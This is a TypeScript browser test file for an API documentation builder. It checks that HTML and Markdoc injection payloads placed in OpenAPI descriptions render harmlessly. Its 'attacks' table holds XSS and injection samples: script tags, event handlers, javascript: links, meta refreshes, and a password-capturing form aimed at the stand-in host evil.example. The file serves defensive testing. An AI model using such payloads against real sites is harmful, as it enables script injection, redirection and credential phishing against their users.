import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import type { Page } from "playwright-core";
import { expect, onTestFinished, test } from "vitest";
import { buildDocs } from "../../scripts/docs/build.ts";
import { write } from "../../scripts/pipeline/write.ts";
import { startBrowser } from "../support/browser.ts";
import { temporaryFolder } from "../support/temporary.ts";

const evil = "https://evil.example/";

/** HTML and Markdoc in which each element has the class `evil`. */
const attacks = {
  iframe: `<iframe class="evil" src="${evil}"></iframe>`,
  "iframe with a document": `<iframe class="evil" srcdoc="<script>top.hasRun = 1</script>"></iframe>`,
  "meta refresh": `<meta class="evil" http-equiv="refresh" content="0;url=${evil}">`,
  "meta refresh without quotes": `<META class=evil http-equiv=refresh content=0;${evil} />`,
  base: `<base class="evil" href="${evil}" target="_top">`,
  form: `<form class="evil" action="${evil}"><input class="evil" name="password" autofocus><button class="evil">Go</button></form>`,
  style: `<style class="evil">body { display: none }</style>`,
  "style sheet": `<link class="evil" rel="stylesheet" href="${evil}">`,
  prefetch: `<link class="evil" rel="dns-prefetch" href="${evil}">`,
  "style attribute": `<div class="evil" style="position: fixed; inset: 0; z-index: 9999">Log in</div>`,
  script: `<script class="evil">globalThis.hasRun = 1</script>`,
  "script in SVG": `<svg class="evil"><script>globalThis.hasRun = 1</script></svg>`,
  "event handler": `<img class="evil" src="data:," onerror="globalThis.hasRun = 1">`,
  "event handler of SVG": `<svg class="evil" onload="globalThis.hasRun = 1"></svg>`,
  "event handler of details": `<details class="evil" open ontoggle="globalThis.hasRun = 1">x</details>`,
  "event handler of an element of Markdown": `<b class="evil" onclick="globalThis.hasRun = 1">x</b>`,
  "javascript link": `<a class="evil" href="javascript:globalThis.hasRun=1">x</a>`,
  object: `<object class="evil" data="${evil}"></object><embed class="evil" src="${evil}">`,
  dialog: `<dialog class="evil" open>x</dialog><textarea class="evil">x</textarea><select class="evil"></select>`,
  "title and body": `<title class="evil">x</title><body class="evil" onload="globalThis.hasRun = 1">`,
  "link target": `<span class="evil" id="redoc" name="body">x</span>`,
  "tag of Markdoc": `{% html name="iframe" attrs={"class": "evil", "src": "${evil}"} %}{% /html %}`,
  "meta refresh in Markdoc": `x {% html name="meta" attrs={"class": "evil", "http-equiv": "refresh", "content": "0;${evil}"} %}{% /html %}`,
  "Markdoc in code": `\`{% html name="form" attrs={"class": "evil"} %}x{% /html %}\``,
  "Markdoc in a block of code": `~~~\n{% html name="form" attrs={"class": "evil"} %}x{% /html %}\n~~~`,
  "an attribute that a later paragraph ends": `<b title="x\n\ny\n\n<i title="z class="evil" onclick="globalThis.hasRun=1">`,
  "a tag in a tag": `<scr<script>ipt class="evil">globalThis.hasRun = 1</script>`,
  "a tag that a removed one completes": `<<i></i>form class="evil"> <for<!-- -->m class="evil">`,
  "indented, as code is elsewhere": `\n\n    <form class="evil">x</form>\n\n`,
  "in a list": `\n\n- <form class="evil">x</form>\n  - <form class="evil">x</form>\n\n`,
  "in a quotation": `\n\n> <form class="evil">x</form>\n\n`,
  "in a table": `\n\n| <form class="evil">x</form> |\n|---|\n| <form class="evil">x</form> |\n\n`,
  "in a heading": `\n\n## <form class="evil">x</form>\n\n`,
  "in a link": `[<form class="evil">x</form>](https://example.com "<form class='evil'>")`,
  "after code that is not closed": "`` x ` <form class='evil'>x</form> ```",
  "after escapes": `\\\`<form class="evil">x</form>\\\` \\<form class="evil">`,
  "in a comment that ends early": `<!--> <form class="evil">x</form> -->`,
  "in CDATA": `<![CDATA[ <form class="evil">x</form> ]]> <?php <form class="evil">x</form> ?>`,
};

const markdown = `**Strong** and \`<form>\`. [javascript](javascript:globalThis.hasRun=1) [data](data:text/html,x)

| Column |
|---|
| [link](https://example.com/?a=1&b=2) |

\`\`\`html
<iframe src="x"></iframe>

*not* {% emphasis %}
\`\`\`
`;

/** Returns an API description with a text in each place where Redoc renders Markdown, and in some where it does not. */
function hostileDescription(text: string): object {
  const description = text;
  const object = {
    type: "object",
    title: text,
    description,
    externalDocs: { url: "https://example.com/", description },
    properties: {
      value: { type: "string", description, examples: ["<b>data</b>"] },
      default: { anyOf: [{ type: "string", description }, { type: "null" }], description },
      example: { type: "string", enum: ["a", "b"], "x-enumDescriptions": { a: text, b: text }, description },
    },
  };
  const media = {
    schema: { $ref: "#/components/schemas/default" },
    examples: { value: { summary: text, description, value: { description: "<b>data</b>" } } },
  };
  const operation = {
    operationId: "create",
    summary: text,
    description,
    tags: ["Tag"],
    parameters: [{ name: "q", in: "query", description, schema: { type: "string", description } }],
    requestBody: { description, content: { "application/json": media } },
    responses: {
      200: {
        description,
        "x-summary": text,
        headers: { "X-Id": { description, schema: { type: "string" } } },
        content: { "application/json": media },
      },
      default: { description },
    },
    security: [{ oauth: ["read"], key: [] }],
  };
  return {
    openapi: "3.1.0",
    info: { title: "Hostile", summary: text, version: "1", description, license: { name: text, identifier: "MIT" } },
    externalDocs: { url: "https://example.com/", description },
    servers: [{ url: "https://{host}/", description, variables: { host: { default: "example.com", description } } }],
    tags: [
      { name: "Tag", "x-displayName": "Tag", description, externalDocs: { url: "https://example.com/", description } },
    ],
    paths: {
      "/default": {
        summary: text,
        description,
        post: { ...operation, callbacks: { default: { example: { post: { ...operation, operationId: "called" } } } } },
      },
    },
    webhooks: { value: { post: { ...operation, operationId: "hook" } } },
    components: {
      schemas: { default: object, example: { allOf: [{ $ref: "#/components/schemas/default" }, object] } },
      securitySchemes: {
        oauth: {
          type: "oauth2",
          description,
          flows: { implicit: { authorizationUrl: "https://example.com/", scopes: { read: text } } },
        },
        key: { type: "apiKey", name: "key", in: "header", description },
      },
    },
  };
}

/** Elements that Markdown makes, and those with which Redoc and the samples of code surround them. */
const expectedElements = [
  ...["A", "B", "BR", "CODE", "EM", "H2", "HR", "I", "LI", "P", "PRE", "STRONG", "TABLE", "TBODY", "TD", "TH", "THEAD"],
  ...["TR", "UL", "BLOCKQUOTE", "OL", "DIV", "SPAN", "svg", "use", "path", "BUTTON"],
];

const browser = await startBrowser();

interface Opened {
  page: Page;
  /** The URLs that the page has loaded or navigated to, besides its own. */
  requests: string[];
}

/** Builds the page of an API description, and opens it. */
async function open(description: object, { javaScriptEnabled = true } = {}): Promise<Opened> {
  const folder = await temporaryFolder();
  const spec = join(folder, "openapi.json");
  await writeFile(spec, JSON.stringify(description));
  write(join(folder, "site"), await buildDocs(spec));
  const context = await browser.newContext({ javaScriptEnabled, viewport: { width: 1440, height: 900 } });
  onTestFinished(() => context.close());
  const page = await context.newPage();
  page.setDefaultTimeout(5_000);
  const address = pathToFileURL(join(folder, "site/index.html")).href;
  const requests: string[] = [];
  page.on("request", (request) => {
    if (!/^(data|blob):/.test(request.url()) && request.url() !== address) requests.push(request.url());
  });
  await page.goto(address);
  return { page, requests };
}

async function openSection(page: Page, hash: string): Promise<void> {
  await page.evaluate((to) => {
    location.hash = to;
  }, hash);
  await page
    .locator(`[data-section-id=${JSON.stringify(hash.slice(1))}]`)
    .first()
    .waitFor();
}

/** Opens everything that is collapsed, and what is collapsed in that. */
async function expandAll(page: Page): Promise<void> {
  for (let level = 0; level < 4; level++) {
    await page.waitForTimeout(100);
    await page.evaluate(() => {
      for (const element of document.querySelectorAll<HTMLElement>("main [aria-expanded='false'], main [role='tab']"))
        element.click();
    });
  }
}

/** Expects that nothing of the attacks has any effect, and returns the rendered Markdown. */
async function expectHarmless({ page, requests }: Opened): Promise<string> {
  const found = await page.evaluate(() => {
    const all = [...document.querySelectorAll("*")];
    const texts = [...document.querySelectorAll("[data-component-name='Markdown/Markdown']")];
    return {
      evil: all.filter((element) => element.classList.contains("evil")).map(({ outerHTML }) => outerHTML),
      handlers: all.flatMap(({ attributes }) => [...attributes]).filter(({ name }) => /^on/.test(name)).length,
      links: [...document.links]
        .map(({ protocol }) => protocol)
        .filter((scheme) => !/^(https?|file|mailto):$/.test(scheme)),
      elements: [...new Set(texts.flatMap((text) => [...text.querySelectorAll("*")]).map(({ tagName }) => tagName))],
      hasRun: "hasRun" in globalThis,
      display: getComputedStyle(document.body).display,
      html: texts.map(({ innerHTML }) => innerHTML).join("\n"),
    };
  });
  const { html, elements, ...effects } = found;
  expect(effects).toEqual({ evil: [], handlers: 0, links: [], hasRun: false, display: "block" });
  expect(expectedElements).toEqual(expect.arrayContaining(elements));
  expect(page.url()).toMatch(/^file:.*\/site\/index\.html(#.*)?$/);
  expect(requests).toEqual([]);
  return html;
}

const everything = `${Object.values(attacks).join("\n\n")}\n\n${markdown}`;
const sections = ["#/", "#/tag", "#/tag/create", "#/tag/hook", "#/schemas/default", "#/schemas/example"];

test("no attack has an effect, wherever Redoc renders Markdown", async () => {
  const opened = await open(hostileDescription(everything));
  for (const section of sections) {
    await openSection(opened.page, section);
    await expandAll(opened.page);
    expect(await expectHarmless(opened)).toContain("<strong>Strong</strong>");
  }
});

test("no attack has an effect in what is rendered ahead", async () => {
  const opened = await open(hostileDescription(everything), { javaScriptEnabled: false });
  await opened.page.waitForTimeout(200); // longer than the refresh of the attacks
  expect(await expectHarmless(opened)).toContain("<strong>Strong</strong>");
});

test("no attack has an effect in names and values, which stay as they are", async () => {
  const text = `${attacks.iframe} ${attacks["tag of Markdoc"]}`;
  const schema = {
    type: "object",
    title: text,
    properties: {
      [text]: { type: "string", format: text, pattern: text, enum: [text], default: text, examples: [text] },
      b: {
        const: text,
        "x-badges": [{ name: text }],
        "x-other": text,
        externalDocs: { url: `https://example.com/${text}` },
      },
    },
    required: [text],
    example: { [text]: text },
  };
  const name = text.replaceAll(/"|%\}/g, "");
  const reference = { $ref: `#/components/schemas/${encodeURIComponent(name.replaceAll("/", "~1"))}` };
  const content = { "application/json": { schema: reference, examples: { [text]: { value: { [text]: text } } } } };
  const operation = {
    operationId: "create",
    summary: text,
    tags: [text],
    parameters: [{ name: text, in: "query", example: text, schema: { type: "string", default: text } }],
    requestBody: { content },
    responses: { 200: { description: "", headers: { [text]: { schema: { type: "string" } } }, content } },
    security: [{ [text]: [text] }],
    "x-codeSamples": [{ lang: text, label: text, source: text }],
  };
  const opened = await open({
    openapi: "3.1.0",
    info: { title: text, version: text, contact: { name: text, email: text }, license: { name: text } },
    servers: [{ url: `https://example.com/${text}` }],
    tags: [{ name: text, "x-displayName": text }],
    paths: { [`/${text}`]: { post: operation } },
    components: {
      schemas: { [name]: schema },
      securitySchemes: { [text]: { type: "http", scheme: text } },
    },
  });
  const links = new Set(["#/"]);
  for (const link of links) {
    await openSection(opened.page, link);
    await expandAll(opened.page);
    await expectHarmless(opened);
    if (link.endsWith("/create")) expect(await opened.page.locator("main").innerText()).toContain(attacks.iframe);
    const menu = await opened.page.locator(".menu-content a[href^='#']").all();
    for (const item of menu) links.add((await item.getAttribute("href")) ?? "");
  }
  expect(links.size).toBeGreaterThanOrEqual(5); // the start, the tag, the operation, the schemas, the schema
});

test.each(['x" /%}<iframe>{% x="', "x\\", "x\n<iframe>", "x %}<iframe>"])(
  "a schema whose name Redoc would read as Markdown is refused: %j",
  async (name) => {
    const info = { title: "Hostile", version: "1" };
    const message = `Invalid name of a schema: expected letters, digits, ".", "-" and "_", got ${JSON.stringify(name)}.`;
    const opening = open({ openapi: "3.1.0", info, paths: {}, components: { schemas: { [name]: {} } } });
    await expect(opening).rejects.toMatchObject({ name: "UserError", message });
  },
);

test("each attack alone has no effect", async () => {
  const paths = Object.entries(attacks).map(([name, text], index) => {
    const responses = { 200: { description: text } };
    return [
      `/${index}`,
      { get: { operationId: `attack${index}`, summary: name, description: text, tags: ["Tag"], responses } },
    ];
  });
  const info = { title: "Hostile", version: "1", description: markdown };
  const opened = await open({ openapi: "3.1.0", info, tags: [{ name: "Tag" }], paths: Object.fromEntries(paths) });
  for (const index of paths.keys()) {
    await openSection(opened.page, `#/tag/attack${index}`);
    await expectHarmless(opened);
  }
});

test("Markdown and code are rendered as they are written", async () => {
  const opened = await open(hostileDescription(markdown));
  const html = await expectHarmless(opened);
  expect(html).toContain("<code>&lt;form&gt;</code>");
  expect(html).toContain('<a href="https://example.com/?a=1&amp;b=2">link</a>');
  const block = opened.page.locator("pre", { hasText: "iframe" }).first();
  expect(await block.textContent()).toBe('<iframe src="x"></iframe>\n\n*not* {% emphasis %}\n');
  expect(html).toContain("[javascript](javascript:globalThis.hasRun=1)");
});
